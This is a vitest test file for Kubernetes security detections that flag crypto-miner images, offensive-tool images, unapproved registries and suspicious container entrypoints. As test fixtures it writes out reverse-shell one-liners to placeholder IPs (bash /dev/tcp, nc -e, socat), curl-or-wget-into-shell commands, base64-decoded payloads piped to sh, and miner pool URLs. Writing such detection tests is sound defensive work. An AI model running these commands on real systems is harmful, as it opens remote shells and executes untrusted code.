import { expect, it } from 'vitest'
import type { Json } from '@/lib/model/json'
import { controlled, creates, podSpec, raised, request, workload, type Case } from '../../testing'
import { programs } from './programs'

const find = (id: string) => programs.find((detection) => detection.id === id)
const runs = (container: { [key: string]: Json }, resource = 'deployments') => creates(resource, podSpec({}, container))
const updated = (container: { [key: string]: Json }) =>
  request('patch', 'pods', { requestObject: { spec: { containers: [{ name: 'web', ...container }] } } })

it.each<Case>([
  ['an image that mines', runs({ image: 'kannix/monero-miner:latest' }), 'high'],
  ['with its registry', runs({ image: 'index.docker.io/kannix/monero-miner@sha256:' + 'a'.repeat(64) }), 'high'],
  ['the one bad tag', runs({ image: 'pocosow/centos:7.6.1810' }), 'high'],
  ['another tag of it', runs({ image: 'pocosow/centos:8' }), null],
  ['a name in the image', runs({ image: 'ghcr.io/x/xmrig:6' }), 'high'],
  ['a pool in the arguments', runs({ args: ['-o', 'stratum+tcp://pool.example:3333'] }), 'high'],
  ['an option', runs({ command: ['/app', '--donate-level', '1'] }), 'high'],
  ['a variable', runs({ env: [{ name: 'POOL', value: 'stratum+ssl://p:1' }] }), 'high'],
  ['the image of a running pod', updated({ image: 'x/xmrig' }), 'high'],
  ['a pod of a controller', controlled('pods', 'replicaset-controller', podSpec({}, { image: 'x/xmrig' })), null],
  ['even the provider in its namespace', runs({ image: 'x/xmrig' }), 'high'],
  ['a word that holds it', runs({ image: 'ghcr.io/x/notxmrigger' }), null],
  ['an ordinary image', runs({}), null],
])('k8s-miner-image: %s', (_, event, severity) => {
  expect(raised(find('k8s-miner-image'), event)).toBe(severity)
})

it.each<Case>([
  ['Kali', runs({ image: 'kalilinux/kali-rolling' }), 'medium'],
  ['from a mirror', runs({ image: 'mirror.example/aquasec/kube-hunter:0.6' }), 'medium'],
  ['nmap', runs({ image: 'instrumentisto/nmap' }, 'jobs'), 'medium'],
  ['a name that holds one', runs({ image: 'ghcr.io/notkalilinux/x' }), null],
  ['another image of the same maker', runs({ image: 'aquasec/trivy:0.69' }), null],
])('k8s-offensive-tool-image: %s', (_, event, severity) => {
  expect(raised(find('k8s-offensive-tool-image'), event)).toBe(severity)
})

const approved = { approvedRegistries: ['ghcr.io/acme/*', 'registry.k8s.io', 'docker.io/library/nginx'] }
it.each<Case>([
  ['nothing is set', runs({ image: 'evil.example/x' }), null],
  ['from elsewhere', runs({ image: 'evil.example/x' }), 'low', approved],
  ['approved by glob', runs({ image: 'ghcr.io/acme/web:1' }), null, approved],
  ['approved by host', runs({ image: 'registry.k8s.io/pause:3' }), null, approved],
  ['a short name', runs({ image: 'nginx:1.29' }), null, approved],
  ['another short name', runs({ image: 'redis' }), 'low', approved],
  ['a host that begins alike', runs({ image: 'registry.k8s.io.evil.example/pause' }), 'low', approved],
  [
    'a patch of something else',
    request('patch', 'deployments', {
      requestObject: { spec: { replicas: 1 } },
      responseObject: workload('deployments', podSpec()),
    }),
    null,
    approved,
  ],
])('k8s-unapproved-registry: %s', (_, event, severity, context) => {
  expect(raised(find('k8s-unapproved-registry'), event, context)).toBe(severity)
})

const sh = (line: string) => runs({ command: ['sh', '-c', line] })
it.each<Case>([
  ['bash over /dev/tcp', sh('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), 'high'],
  ['netcat', sh('nc -e /bin/sh 203.0.113.9 4444'), 'high'],
  ['netcat’s probe of a port', sh('nc -zv db 5432'), null],
  ['netcat with CRLF', sh('nc -C db 5432'), null],
  ['python over two lines', sh("python3 -c 'import socket\ns=socket.socket()'"), 'high'],
  ['curl into a shell', sh('curl -fsSL https://x.example/i | sudo bash'), 'high'],
  ['a URL with & in it', sh('curl "https://x.example/i?a=1&b=2" | sh'), 'high'],
  ['substitution', sh('bash -c "$(wget -qO- https://x.example/i)"'), 'high'],
  ['decoded', sh('echo aGk= | base64 -d | sh'), 'high'],
  ['decoded to a file', sh('echo aGk= | base64 -d > /tmp/x'), null],
  ['curl into jq', sh('curl https://x.example/i | jq .'), null],
  ['curl and then another shell', sh('curl https://x.example/i; echo x | sh'), null],
  [
    'a hook',
    runs({ lifecycle: { postStart: { exec: { command: ['bash', '-c', 'cat < /dev/tcp/1.2.3.4/5'] } } } }),
    'high',
  ],
  ['a probe', runs({ livenessProbe: { exec: { command: ['sh', '-c', 'wget -qO- http://x/i | sh'] } } }), 'high'],
  ['split into arguments', runs({ command: ['socat'], args: ['TCP:1.2.3.4:5', 'EXEC:/bin/sh'] }), 'high'],
  ['what an image does anyway', runs({ command: ['/entrypoint.sh', 'server'] }), null],
])('k8s-suspicious-entrypoint: %s', (_, event, severity) => {
  expect(raised(find('k8s-suspicious-entrypoint'), event)).toBe(severity)
})
